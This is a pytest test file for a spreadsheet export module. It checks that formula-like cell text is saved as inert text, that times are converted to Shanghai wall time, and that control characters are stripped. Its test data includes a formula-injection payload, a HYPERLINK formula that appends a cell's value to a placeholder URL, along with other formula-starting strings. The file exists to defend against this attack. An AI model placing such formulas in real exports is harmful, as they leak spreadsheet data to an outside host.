"""The one xlsx writer: formula-like text stays text, times are China's time."""

import datetime
import io

import pytest
from openpyxl import Workbook, load_workbook

from oneseal import spreadsheets

HOSTILE = '=HYPERLINK("http://x"&B3,"查看")'
STARTS = [HOSTILE, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "＋1", "－1", "＠SUM(A1)"]


def read_back(data: bytes):
    return load_workbook(io.BytesIO(data)).worksheets[0]


@pytest.mark.parametrize("write_only", [False, True])
def test_text_a_spreadsheet_would_evaluate_is_written_as_text_unchanged(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("s") if write_only else book.active
    for row, text in enumerate(STARTS, start=1):
        if write_only:
            spreadsheets.append(sheet, [text, "平罗县", 3])
        else:
            for column, value in enumerate([text, "平罗县", 3], start=1):
                spreadsheets.put(sheet, row, column, value)
    sheet = read_back(spreadsheets.to_bytes(book))
    for row, text in enumerate(STARTS, start=1):
        first = sheet.cell(row=row, column=1)
        assert first.value == text.replace("\r", "\n") or first.value == text
        assert first.data_type == "s" and first.quotePrefix
        assert sheet.cell(row=row, column=2).quotePrefix is False  # ordinary text is left alone
        assert sheet.cell(row=row, column=3).value == 3


def test_a_direct_formula_write_is_caught_before_saving():
    book = Workbook()
    book.active["A1"] = HOSTILE  # bypassing put(): openpyxl would write a live formula
    assert book.active["A1"].data_type == "f"
    assert read_back(spreadsheets.to_bytes(book))["A1"].data_type == "s"


def test_an_aware_time_is_written_as_shanghai_wall_time():
    utc = datetime.datetime(2026, 3, 2, 8, 33, tzinfo=datetime.UTC)
    book = Workbook()
    spreadsheets.put(book.active, 1, 1, utc)
    wall = datetime.datetime(2026, 3, 2, 16, 33)  # noqa: DTZ001 - xlsx has no zone
    assert read_back(spreadsheets.to_bytes(book))["A1"].value == wall


def test_control_characters_do_not_break_the_download():
    book = Workbook(write_only=True)
    spreadsheets.append(book.create_sheet("s"), ["马\x00𠮷\x1b祥"])
    assert read_back(spreadsheets.to_bytes(book))["A1"].value == "马𠮷祥"
